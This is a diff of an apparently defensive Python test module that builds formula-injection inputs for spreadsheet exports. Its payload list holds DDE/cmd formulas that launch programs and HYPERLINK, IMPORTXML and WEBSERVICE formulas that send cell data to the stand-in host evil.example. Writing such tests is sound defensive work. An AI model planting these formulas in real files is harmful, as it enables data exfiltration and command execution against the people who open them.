@@ -21,14 +21,33 @@ from tests.exports.hostile import PAYLOADS
 _NAUGHTY = Path(__file__).parent / "payloads/node_modules/big-list-of-naughty-strings/blns.json"
 
 #: What begins a formula in one program or another, and what makes it begin the cell where blanks stand before it.
-_BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u3000=", "\u00a0=", "\ufeff=", "＝", "＋", "－", "＠", "|=", ";=", ",=")
+_BEGINNINGS = (
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t=",
+    "\r=",
+    "\n=",
+    " =",
+    "\u3000=",
+    "\u00a0=",
+    "\ufeff=",
+    "＝",
+    "＋",
+    "－",
+    "＠",
+    "|=",
+    ";=",
+    ",=",
+)
 _FORMULAS = (
     "1+1",
     "cmd|'/C calc'!A0",
     'HYPERLINK("http://evil.example/?"&A1,"点此")',
     'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
     'WEBSERVICE("http://evil.example/")',
-    "DDE(\"cmd\";\"/C calc\";\"!A0\")",
+    'DDE("cmd";"/C calc";"!A0")',
 )
 FORMULAS = tuple(f"{begin}{rest}" for begin in _BEGINNINGS for rest in _FORMULAS)
 
